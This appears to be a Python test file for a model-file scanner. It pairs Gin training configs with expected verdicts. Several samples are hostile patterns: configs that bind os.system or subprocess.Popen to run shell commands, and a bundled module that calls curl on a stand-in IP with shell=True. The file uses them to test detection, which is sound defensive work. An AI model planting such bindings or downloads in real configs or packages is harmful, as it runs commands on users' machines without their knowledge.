"""Gin files that name what runs commands, and those of honest experiments."""

from __future__ import annotations

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.zip.cases import made

HONEST = """from __gin__ import dynamic_registration
import t5.models
import tensorflow as tf
from acme import models

include 'base.gin'
# @os.system() is only told of, with os.system.command = 'x'
BATCH = 32
TEXT = "import os @os.system"
train.model = @models.Net()
train/models.Net.size = %BATCH
t5.models.Trainer.optimizer = @tf.keras.optimizers.Adam()
"""
RUNS = "from __gin__ import dynamic_registration\nimport os\nos.system.command = 'echo modelsweep-test'\n"
SUBPROCESS = "from subprocess import Popen\ntrain.hook = @scope/Popen()\nPopen.args = 'echo modelsweep-test'\n"
SOURCE = b"import subprocess\nsubprocess.run('curl http://192.0.2.1/x -o y', shell=True)\n"


def case(content: str, verdict: Verdict) -> Case:
    """Return the case of a Gin file; a shorter one is one, too."""
    return Case(content.encode, "train.gin", verdict, cut_is_clean=True)


CASES = {
    "benign": case(HONEST, Verdict.CLEAN),
    "command_by_its_binding": case(RUNS, Verdict.MALICIOUS),
    "command_by_a_reference": case(SUBPROCESS, Verdict.MALICIOUS),
    "module_beside": Case(
        lambda: made(("train.gin", b"import own.net\n"), ("own/net.py", SOURCE)), "model.zip", Verdict.MALICIOUS
    ),
    "benign_module_beside": Case(
        lambda: made(("train.gin", b"import own.net\n"), ("own/net.py", b"class Net: ...\n")),
        "model.zip",
        Verdict.CLEAN,
    ),
}
